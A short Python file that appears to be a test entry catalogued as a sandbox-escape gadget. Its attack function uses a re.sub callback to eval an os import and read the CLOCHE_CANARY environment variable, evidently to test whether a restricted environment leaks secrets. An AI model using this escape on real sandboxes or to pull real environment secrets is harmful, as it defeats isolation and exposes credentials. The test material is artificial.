"""Class: module gadget. Source: own find. Escape: re.sub calls eval on a match."""

import re


def attack(model, tokenizer, address):
    return re.sub("a", lambda m: eval("__import__('os').environ['CLOCHE_CANARY']"), "a")
